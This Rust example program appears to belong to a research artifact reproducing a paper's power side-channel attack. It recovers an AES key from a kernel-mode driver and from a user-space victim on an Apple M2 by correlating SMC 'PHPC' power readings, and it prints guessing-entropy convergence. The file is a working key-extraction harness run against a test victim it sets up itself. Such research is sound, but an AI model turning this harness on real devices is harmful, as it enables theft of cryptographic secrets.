//! Attacking a kernel-mode AES driver from unprivileged user space (§3.5).
//!
//! The victim is an in-kernel encryption service: one driver thread,
//! syscall noise on every invocation. The attack is identical to the
//! user-space case — the SMC keys are readable regardless of where the
//! secret lives — but the SNR is lower, so convergence is slower (the
//! paper's Fig. 1(b) observation).
//!
//! Run with: `cargo run --release --example kernel_attack -- [traces]`

use apple_power_sca::core::source::Schedule;
use apple_power_sca::core::{Campaign, Device, VictimKind};
use apple_power_sca::sca::model::Rd0Hw;
use apple_power_sca::sca::rank::{guessing_entropy, log_checkpoints};
use apple_power_sca::smc::key::key;
use apple_power_sca::telemetry::processors::CpaGrid;
use apple_power_sca::telemetry::ChannelId;

fn main() {
    let traces: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(40_000);
    let secret_key: [u8; 16] = [
        0xB7, 0x6F, 0xEB, 0x3E, 0xD5, 0x9D, 0x77, 0xFA, 0xCE, 0xBB, 0x67, 0xF3, 0x5E, 0xAD, 0xD9,
        0x7C,
    ];
    let shards = std::thread::available_parallelism().map_or(4, |n| n.get().min(8));

    println!("attacking the kernel AES module with {traces} PHPC traces per victim...");
    let mut results = Vec::new();
    for kind in [VictimKind::UserSpace, VictimKind::KernelModule] {
        // Ranks at log-spaced trace counts, streamed: no trace is kept.
        let checkpoints = log_checkpoints((traces / 50).max(50), traces, 3);
        let grid = Campaign::live(Device::MacbookAirM2, kind, secret_key, 0xBEEF)
            .keys(&[key("PHPC")])
            .traces(traces)
            .shards(shards)
            .session()
            .analyze(
                |n| Schedule::KnownPlaintext { traces: n },
                |slice| {
                    CpaGrid::new(
                        ChannelId::Smc(key("PHPC")),
                        &[|| Box::new(Rd0Hw)],
                        &checkpoints,
                        slice,
                    )
                },
            )
            .into_analysis()
            .expect("some shard survived");
        let ge = guessing_entropy(&grid.cpas()[0].ranks(&secret_key));
        println!("\n== {kind:?}: final GE {ge:.1} bits ==");
        println!("   traces        GE");
        for (n, cpas) in grid.points() {
            println!("   {:>7}   {:>7.1}", n, guessing_entropy(&cpas[0].ranks(&secret_key)));
        }
        results.push((kind, ge));
    }
    println!(
        "\nkernel GE {:.1} vs user GE {:.1}: the kernel target converges slower\n\
         (paper: ≈2× more traces needed due to syscall noise and a single victim thread)",
        results[1].1, results[0].1
    );
}
